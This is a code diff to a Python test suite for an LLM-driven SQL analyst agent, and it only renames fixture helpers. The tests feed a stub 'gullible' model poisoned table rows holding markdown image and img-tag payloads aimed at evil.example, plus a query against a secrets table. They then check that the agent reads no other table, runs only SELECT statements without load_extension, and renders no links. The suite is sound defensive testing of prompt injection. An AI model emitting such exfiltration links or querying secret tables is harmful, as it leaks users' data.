@@ -11,8 +11,8 @@ from agent.llm.options import LlmOptions
 from agent.llm.prompts import FOLDER
 from graph.events import Chart, DraftWritten, Evidence, Suggestions, TextDelta, Verdict
 from tests.fixtures.assistants import THREAD, scripted_assistant
-from tests.fixtures.llm.stub_server import Reply, form, running_stub
-from tests.fixtures.scripted_analyst import ScriptedTarget, rows_of
+from tests.fixtures.llm.stub_server import Reply, form_reply, run_stub_server
+from tests.fixtures.scripted_analyst import ScriptedTarget, make_rows
 
 EVIL = "![x](https://evil.example/?d=12) <img src=//evil.example> www.evil.example"
 SECRET_SQL = "SELECT k, v FROM secrets"
@@ -30,19 +30,19 @@ def gullible(body: dict[str, Any], words: str, first_sql: str, recites: bool) ->
     schema = body.get("response_format", {}).get("json_schema", {}).get("name")
     if schema == "intent":
         text = leaked("understand") if recites else words
-        return form(kind="data", question="Which pets?", plan=[text, text], assumptions=[text])
+        return form_reply(kind="data", question="Which pets?", plan=[text, text], assumptions=[text])
     if schema == "draft":
         text = leaked("draft") if recites else words
         tried = first_sql in str(body["messages"])
         sql = "SELECT name, count(*) AS n FROM pets GROUP BY name" if tried else first_sql
-        return form(sql=sql, reading=text, assumptions=[text], chart=text, follow_ups=[text], confidence=0.9)
+        return form_reply(sql=sql, reading=text, assumptions=[text], chart=text, follow_ups=[text], confidence=0.9)
     return Reply([leaked("narrate")]) if recites else Reply(list(words))
 
 
 async def turn(recites: bool, sql: str = SECRET_SQL) -> tuple[list[Any], ScriptedTarget]:
-    target = ScriptedTarget([rows_of(["name", "n"], [(EVIL, 1), ("Bo", 2)])] * 3)
+    target = ScriptedTarget([make_rows(["name", "n"], [(EVIL, 1), ("Bo", 2)])] * 3)
     async with (
-        running_stub(lambda body: gullible(body, EVIL, sql, recites)) as stub,
+        run_stub_server(lambda body: gullible(body, EVIL, sql, recites)) as stub,
         open_model("stub", stub.url, None, 5.0) as model,
     ):
         analyst = ModelAnalyst(model, options=LlmOptions(timeout_s=5.0))
@@ -73,8 +73,8 @@ def shown(events: list[Any]) -> list[str]:
 async def test_a_gullible_model_reaches_no_other_table() -> None:
     events, target = await turn(recites=False)
     assert next(event.approved for event in events if isinstance(event, Verdict)) is False
-    assert target.ran
-    assert not any("secrets" in sql for sql in target.ran)
+    assert target.executed
+    assert not any("secrets" in sql for sql in target.executed)
 
 
 @pytest.mark.parametrize(
@@ -83,7 +83,7 @@ async def test_a_gullible_model_reaches_no_other_table() -> None:
 )
 async def test_a_gullible_model_changes_nothing(sql: str) -> None:
     _, target = await turn(recites=False, sql=sql)
-    assert all(ran.startswith("SELECT") and "load_extension" not in ran for ran in target.ran)
+    assert all(ran.startswith("SELECT") and "load_extension" not in ran for ran in target.executed)
 
 
 async def test_nothing_it_says_is_a_link_an_image_or_a_tag() -> None:
